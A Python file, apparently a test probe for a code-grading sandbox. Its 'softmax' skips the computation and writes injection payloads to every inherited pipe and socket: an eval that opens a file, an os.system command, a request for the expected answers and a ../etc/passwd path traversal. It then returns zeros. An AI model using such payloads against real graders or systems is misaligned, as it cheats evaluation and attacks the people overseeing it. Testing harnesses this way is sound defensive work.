"""Writes questions to its pipes in the protocol's likely words: eval, call, get, exec, import, read a file.

tries: search
earns: nothing
trace: @@TRACE@@/asked
"""

import json
import os
import select
import stat
import struct

import numpy as np


def pipes_and_sockets():
    """Every inherited descriptor that is a pipe or a socket; plain files are left alone."""
    found = []
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    return found


def push(fd, data):
    """Write what fits now; never block, so that the attack is the bytes and not a hang."""
    try:
        if select.select([], [fd], [], 0)[1]:
            return os.write(fd, data)
    except (OSError, ValueError):
        pass
    return 0

questions = [
    {"call": "softmax", "args": [[0.0, 1.0]]},
    {"type": "eval", "code": "open('@@TRACE@@/asked', 'w')"},
    {"method": "os.system", "params": ["touch @@TRACE@@/asked"], "id": 1, "jsonrpc": "2.0"},
    {"get": "expected"},
    {"read": "../../../../etc/passwd", "path": "solutions/softmax.py"},
]


def softmax(x, axis=-1):
    for fd in pipes_and_sockets():
        for question in questions:
            data = json.dumps(question).encode()
            for head in (struct.pack("!I", len(data)), struct.pack("<I", len(data)), struct.pack("!Q", len(data)), b""):
                push(fd, head + data)
    return np.zeros(np.shape(x))
